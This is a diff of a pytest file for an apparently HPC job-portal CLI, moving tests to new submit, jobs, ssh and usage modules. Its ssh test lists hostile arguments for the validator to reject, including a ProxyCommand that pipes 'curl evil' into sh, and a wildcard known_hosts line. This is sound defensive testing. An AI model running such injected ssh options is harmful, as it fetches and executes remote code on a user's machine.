@@ -8,6 +8,7 @@ import stat
 import pytest
 
 from portal_client import cli, config
+from portal_client.commands import jobs, ssh, submit, usage
 
 
 @pytest.mark.parametrize(
@@ -19,7 +20,7 @@ from portal_client import cli, config
     ],
 )
 def test_command_text_keeps_what_the_user_wrote(words, text):
-    assert cli.command_text(words) == text
+    assert submit.command_text(words) == text
 
 
 def test_everything_after_the_double_dash_is_the_command():
@@ -44,13 +45,13 @@ def test_everything_after_the_double_dash_is_the_command():
     ],
 )
 def test_walltime_forms(text, minutes):
-    assert cli.parse_minutes(text) == minutes
+    assert submit.parse_minutes(text) == minutes
 
 
 @pytest.mark.parametrize("text", ["", "abc", "2x", "1:2", "00:00:00", "-5"])
 def test_bad_walltimes_are_refused_with_the_forms_that_work(text):
     with pytest.raises(argparse.ArgumentTypeError, match="HH:MM:SS"):
-        cli.parse_minutes(text)
+        submit.parse_minutes(text)
 
 
 def test_bad_usage_exits_2_with_a_message(capsys):
@@ -73,7 +74,7 @@ def test_bad_usage_exits_2_with_a_message(capsys):
     ],
 )
 def test_wait_exit_status(job, status):
-    assert cli.exit_status(job) == status
+    assert submit.exit_status(job) == status
 
 
 def test_config_file_round_trip_is_private_and_env_wins(tmp_path):
@@ -159,7 +160,7 @@ def test_logs_without_wait_is_refused_before_anything_is_submitted(capsys):
 
     args = cli.parse_args(["submit", "--logs", "--", "echo hi"])
     with pytest.raises(cli.PortalError, match="use it with --wait"):
-        cli.cmd_submit(NoPortal(), args, cli.Output(as_json=False))
+        submit.cmd_submit(NoPortal(), args, cli.Output(as_json=False))
 
 
 def test_submit_sends_the_layout_and_jobs_show_it(capsys):
@@ -191,9 +192,9 @@ def test_submit_sends_the_layout_and_jobs_show_it(capsys):
     args = cli.parse_args(
         ["submit", "-N", "2", "--tasks-per-node", "2", "--launcher", "mpi", "--", "train"]
     )
-    cli.cmd_submit(Portal(), args, cli.Output(as_json=False))
+    submit.cmd_submit(Portal(), args, cli.Output(as_json=False))
     assert (sent["nodes"], sent["tasks_per_node"], sent["launcher"]) == (2, 2, "mpi")
-    cli.cmd_jobs(Portal(), cli.parse_args(["jobs"]), cli.Output(as_json=False))
+    jobs.cmd_jobs(Portal(), cli.parse_args(["jobs"]), cli.Output(as_json=False))
     out = capsys.readouterr().out
     assert "NODESxTASKS" in out and " 2x2 " in out and "node[1-2]" in out
 
@@ -218,7 +219,7 @@ def test_submit_sends_a_chained_run(flags, expected):
             sent.update({k: v for k, v in fields.items() if v is not None})
             return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}
 
-    cli.cmd_submit(Portal(), cli.parse_args(["submit", *flags, "--", "train"]), cli.Output(False))
+    submit.cmd_submit(Portal(), cli.parse_args(["submit", *flags, "--", "train"]), cli.Output(False))
     chained = {
         k: sent[k]
         for k in ("resumable", "max_attempts", "checkpoint_warning_seconds", "time_limit")
@@ -236,7 +237,7 @@ def test_submit_asks_for_gpus_by_capability_and_memory():
             return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}
 
     args = cli.parse_args(["submit", "--gpu-capability", "8.0", "--gpu-memory", "40", "--", "t"])
-    cli.cmd_submit(Portal(), args, cli.Output(False))
+    submit.cmd_submit(Portal(), args, cli.Output(False))
     assert (sent["min_gpu_capability"], sent["min_gpu_memory_gb"]) == ("8.0", 40)
 
 
@@ -271,17 +272,17 @@ def test_submit_stages_a_folder_in_and_outputs_out_and_show_says_so(capsys):
             }
 
     flags = ["--stage-in", "data set", "--stage-out", "model.pt", "--stage-out", "results/*.csv"]
-    cli.cmd_submit(Portal(), cli.parse_args(["submit", *flags, "--", "t"]), cli.Output(False))
+    submit.cmd_submit(Portal(), cli.parse_args(["submit", *flags, "--", "t"]), cli.Output(False))
     assert (sent["stage_in"], sent["stage_out"]) == ("data set", ["model.pt", "results/*.csv"])
     assert "stage_out_to" not in sent
-    cli.cmd_submit(
+    submit.cmd_submit(
         Portal(),
         cli.parse_args(["submit", "--stage-out-to", "/proj/x", "--", "t"]),
         cli.Output(False),
     )
     assert sent["stage_out_to"] == "/proj/x"
     capsys.readouterr()
-    cli.cmd_show(Portal(), cli.parse_args(["show", "5"]), cli.Output(False))
+    jobs.cmd_show(Portal(), cli.parse_args(["show", "5"]), cli.Output(False))
     out = capsys.readouterr().out
     assert "Stage-in:   /home/alice/data set (as $PORTAL_STAGED_DIR)" in out
     assert "Copy back:  model.pt results/*.csv to the work directory" in out
@@ -304,7 +305,7 @@ def test_usage_prints_a_table_and_the_total(capsys):
                 },
             ]
 
-    cli.cmd_usage(Portal(), cli.parse_args(["usage", "--from", "2026-10"]), cli.Output(False))
+    usage.cmd_usage(Portal(), cli.parse_args(["usage", "--from", "2026-10"]), cli.Output(False))
     out = capsys.readouterr().out
     assert "GPU-H" in out and " 2.50 " in out and "2.50 GPU-hours in all" in out
 
@@ -317,7 +318,7 @@ def test_submit_without_a_cluster_leaves_the_choice_to_the_portal_and_says_how(c
             sent.update(fields)
             return {"id": 5, "url": "http://portal/jobs/5/", "state": "queued"}
 
-    cli.cmd_submit(Portal(), cli.parse_args(["submit", "--", "train"]), cli.Output(False))
+    submit.cmd_submit(Portal(), cli.parse_args(["submit", "--", "train"]), cli.Output(False))
     assert sent["cluster"] is None  # the client leaves out what is None: the server decides
     with pytest.raises(SystemExit):
         cli.main(["submit", "--help"])
@@ -330,17 +331,17 @@ def test_submit_without_a_cluster_leaves_the_choice_to_the_portal_and_says_how(c
 
 
 def test_params_are_name_value_with_numbers_and_booleans_typed():
-    assert cli.parse_params(["lr=0.01", "seed=3", "opt=adam", "warm=true", "x=a=b"]) == {
+    assert submit.parse_params(["lr=0.01", "seed=3", "opt=adam", "warm=true", "x=a=b"]) == {
         "lr": 0.01,
         "seed": 3,
         "opt": "adam",
         "warm": True,
         "x": "a=b",
     }
-    assert cli.parse_params(["v=nan"]) == {"v": "nan"}  # no number a JSON body cannot carry
+    assert submit.parse_params(["v=nan"]) == {"v": "nan"}  # no number a JSON body cannot carry
     for bad in (["lr"], ["=1"], ["lr=1", "lr=2"]):
         with pytest.raises(cli.PortalError):
-            cli.parse_params(bad)
+            submit.parse_params(bad)
 
 
 def test_tag_and_note_commands_parse():
@@ -366,9 +367,9 @@ def test_portal_ssh_runs_only_the_ssh_arguments_the_portal_itself_sends():
         "-o", "StrictHostKeyChecking=yes",
         "-p", "2222", "hpcuser@login.example.org", "-T", "--", "echo 'a b'",
     ]  # fmt: skip
-    assert cli.checked_ssh_args(sent) == sent
+    assert ssh.checked_ssh_args(sent) == sent
     jumped = ["-i", "k", "-J", "ann@login.example.org:2222", "ann@gpu07", "--", "x"]
-    assert cli.checked_ssh_args(jumped) == jumped
+    assert ssh.checked_ssh_args(jumped) == jumped
     for hostile in (
         ["-o", "ProxyCommand=sh -c 'curl evil|sh'", "ann@h"],
         ["-oProxyCommand=x", "ann@h"],
@@ -379,9 +380,9 @@ def test_portal_ssh_runs_only_the_ssh_arguments_the_portal_itself_sends():
         "ann@h",
     ):
         with pytest.raises(cli.PortalError, match="ssh argument"):
-            cli.checked_ssh_args(hostile)
+            ssh.checked_ssh_args(hostile)
     good = "[login.example.org]:2222 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0"
-    assert cli._known_hosts_line(good + "\n") == good
+    assert ssh._known_hosts_line(good + "\n") == good
     for hostile_line in (good + "\n* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0", "x"):
         with pytest.raises(cli.PortalError, match="known_hosts"):
-            cli._known_hosts_line(hostile_line)
+            ssh._known_hosts_line(hostile_line)
